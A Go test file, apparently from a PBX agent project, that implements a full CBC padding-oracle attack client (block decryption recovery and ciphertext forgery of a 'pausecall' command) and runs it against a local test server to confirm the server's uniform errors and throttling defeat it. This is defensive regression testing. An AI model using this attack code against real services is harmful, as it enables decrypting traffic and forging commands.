package manager

import (
	"bytes"
	"crypto/aes"
	"crypto/rand"
	"io"
	"net"
	"testing"
	"time"

	"pbx-agent/agent/manager/wire"
)

// oracleClient is the attacker's side of the padding-oracle attack: it
// knows no key, only what it sees on the wire.
type oracleClient struct {
	t      *testing.T
	addr   string
	n      int // connections made
	budget int
}

// query sends "aes-128-cbc:" + ct + ":sea" on a new connection and returns
// the reply (empty when the server closed without answering).
func (o *oracleClient) query(ct []byte) []byte {
	o.n++
	c, err := net.DialTimeout("tcp", o.addr, 5*time.Second)
	if err != nil {
		o.t.Fatalf("dial: %v", err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(5 * time.Second))
	req := append(append([]byte(wire.CipherName+":"), ct...), wire.RequestSuffix...)
	if _, err := c.Write(req); err != nil {
		return nil // closed by the server before reading: a refusal
	}
	var buf bytes.Buffer
	_, _ = io.Copy(&buf, c)
	return buf.Bytes()
}

// recoverBlock is the adaptive CBC padding-oracle attack on one block
// (Vaudenay): it sends X‖target with X chosen byte by byte so that the
// decrypted second block ends in valid PKCS#7 padding, and learns one
// byte of D(target) each time the reply differs from the failure reply.
// It returns the bytes it learned (from the end of the block) and stops
// when the connection budget is spent. A byte for which no X gives a
// different reply is retried with a fresh random X prefix.
func (o *oracleClient) recoverBlock(target []byte, failure []byte) (inter [16]byte, known int) {
	valid := func(r []byte) bool { return len(r) > 0 && !bytes.Equal(r, failure) }
	pos := 15
	for pos >= 0 && o.n < o.budget {
		pad := byte(16 - pos)
		var x [16]byte
		_, _ = rand.Read(x[:pos])
		for i := pos + 1; i < 16; i++ {
			x[i] = inter[i] ^ pad
		}
		found := false
		for g := 0; g < 256 && o.n < o.budget; g++ {
			x[pos] = byte(g)
			if !valid(o.query(append(x[:], target...))) {
				continue
			}
			if pos == 15 && pos > 0 { // rule out …02 02 and longer pads: change the byte before
				y := x
				y[pos-1] ^= 0xff
				if !valid(o.query(append(y[:], target...))) {
					continue
				}
			}
			inter[pos] = byte(g) ^ pad
			found = true
			break
		}
		if !found {
			continue // nothing learned: start this byte again
		}
		known++
		pos--
	}
	return inter, known
}

// forge builds the ciphertext whose last blocks decrypt to want (whole
// blocks, PKCS#7-padded), preceded by one block of garbage: each block
// Cᵢ₋₁ = D(Cᵢ) ⊕ Pᵢ, with D learnt through the oracle. ok is false when
// the budget ran out first.
func (o *oracleClient) forge(want []byte, failure []byte) (ct []byte, ok bool) {
	blocks := len(want) / 16
	cur := make([]byte, 16)
	_, _ = rand.Read(cur)
	ct = append([]byte(nil), cur...)
	for i := blocks - 1; i >= 0; i-- {
		inter, known := o.recoverBlock(cur, failure)
		if known < 16 {
			return nil, false
		}
		prev := make([]byte, 16)
		for j := range prev {
			prev[j] = inter[j] ^ want[i*16+j]
		}
		ct = append(prev, ct...)
		cur = prev
	}
	return ct, true
}

func pkcs7(b []byte) []byte {
	pad := aes.BlockSize - len(b)%aes.BlockSize
	return append(append([]byte(nil), b...), bytes.Repeat([]byte{byte(pad)}, pad)...)
}

// TestPaddingOracleAttack pins issue 17 item 1: the review's attack — an
// adaptive CBC padding-oracle run from 127.0.0.1 against a live server
// with an AES key, first recovering D(C) of a captured request block, then
// forging an encrypted `pausecall` for an active call — gains nothing in
// 100,000 connections: every failure (bad padding, no command at the
// start, unknown command) gets the same reply, so not one byte is learnt;
// after AESMaxFailures failures the source is blocked (its connections are
// closed unread: counted in /metrics, logged) and no call is paused. The
// "unthrottled" case stands for an attacker with many addresses: 5,000
// answered requests (enough for ~20 bytes against the old server) still
// teach nothing. The recorded VoIPmonitor exchanges still interoperate
// (TestAESRecorded, TestAESServerAgainstRecordedRequests).
//
// Run time: about 10 s for both cases on a loaded 2-core machine
// (go test -run TestPaddingOracleAttack -v ./agent/manager/ prints it).
func TestPaddingOracleAttack(t *testing.T) {
	for _, tc := range []struct {
		name     string
		budget   int
		maxFails int // 0 = the default
	}{
		{"throttled, 100000 connections", 100000, 0},
		{"unthrottled, 5000 connections", 5000, 1 << 30},
	} {
		t.Run(tc.name, func(t *testing.T) {
			k := testKey(t)
			ts := startServer(t, func(c *Config) { c.Keys = wire.StaticKey(k); c.AESMaxFailures = tc.maxFails })
			ref := ts.calls.Calls[0].CallRef
			o := &oracleClient{t: t, addr: ts.addr, budget: tc.budget}
			start := time.Now()

			// The failure reply: the most common answer to three random requests.
			var probes [3][]byte
			for i := range probes {
				ct := make([]byte, 32)
				_, _ = rand.Read(ct)
				probes[i] = o.query(ct)
			}
			failure := probes[0]
			if !bytes.Equal(probes[0], probes[1]) && bytes.Equal(probes[1], probes[2]) {
				failure = probes[1]
			}

			// Step 1: decrypt the first block of a captured request.
			captured := k.EncryptRequest([]byte("listcalls\r\n\r\n"))
			target := captured[len(wire.CipherName)+1:][:16]
			inter, known := o.recoverBlock(target, failure)
			var truth [16]byte
			blk, _ := aes.NewCipher(k.Key[:])
			blk.Decrypt(truth[:], target)
			correct := 0
			for i := 16 - known; i < 16; i++ {
				if inter[i] == truth[i] {
					correct++
				}
			}
			// Step 2 (only reachable if step 1 worked): forge "<garbage>pausecall 0x…".
			forged := false
			if known == 16 {
				if ct, ok := o.forge(pkcs7([]byte("pausecall 0x"+hexRef(ref)+" ")), failure); ok {
					o.query(ct)
					forged = true
				}
			}
			n := ts.s.Counters()
			t.Logf("FIGURE %d connections in %v: %d bytes of D(C) claimed, %d correct; forged: %v; server: %d AES failures answered, %d connections from the blocked source closed unread, %d block(s)",
				o.n, time.Since(start).Round(time.Millisecond), known, correct, forged, n.DecryptFailed, n.Blocked, n.SourcesBlocked)
			if o.n < o.budget {
				t.Errorf("the attack stopped after %d connections, want the whole budget of %d", o.n, o.budget)
			}
			if correct > 0 || known > 0 {
				t.Errorf("the attacker learnt %d bytes of the decryption (%d correct)", known, correct)
			}
			paused := ts.calls.Paused(ref)
			if paused || forged {
				t.Error("the attacker paused the call")
			}
			if tc.maxFails == 0 && (n.DecryptFailed > uint64(DefaultAESMaxFailures) || n.SourcesBlocked != 1 || n.Blocked < uint64(o.n)-uint64(DefaultAESMaxFailures)) {
				t.Errorf("counters %+v: want %d failures answered, then one block and every later connection closed unread", n, DefaultAESMaxFailures)
			}
		})
	}
}

func hexRef(ref uint64) string {
	const digits = "0123456789abcdef"
	var b []byte
	for ; ref > 0; ref >>= 4 {
		b = append([]byte{digits[ref&15]}, b...)
	}
	return string(b)
}
